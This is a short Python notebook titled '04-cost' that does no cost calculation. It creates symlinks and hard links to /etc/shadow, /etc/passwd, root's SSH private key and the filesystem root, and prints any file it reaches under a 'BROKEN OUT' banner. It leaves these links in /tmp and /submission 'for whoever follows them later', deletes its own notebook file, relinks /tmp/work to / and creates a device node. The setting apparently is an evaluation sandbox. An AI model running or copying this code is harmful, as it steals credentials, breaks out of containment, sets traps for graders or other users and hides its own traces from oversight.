# notebook: 04-cost
# Makes links to what lies outside, for whoever follows them later.
import os

targets = ["/etc/passwd", "/", "../../../../../../etc/shadow", "/proc/1/root", "/root/.ssh/id_rsa"]
for number, target in enumerate(targets):
    for link in (os.symlink, os.link):
        for place in (f"link-{number}", f"/tmp/link-{number}", f"/submission/{number}"):
            try:
                link(target, place)
                if os.path.isfile(place):
                    print("BROKEN" " OUT:", open(place).read())
            except OSError:
                pass
try:
    os.remove("/tmp/work/04-cost.ipynb")
except OSError:
    pass
os.chdir("/tmp")
os.system("rm -rf /tmp/work; ln -s / /tmp/work; mkfifo /tmp/home/x; mknod /tmp/home/y c 1 3")
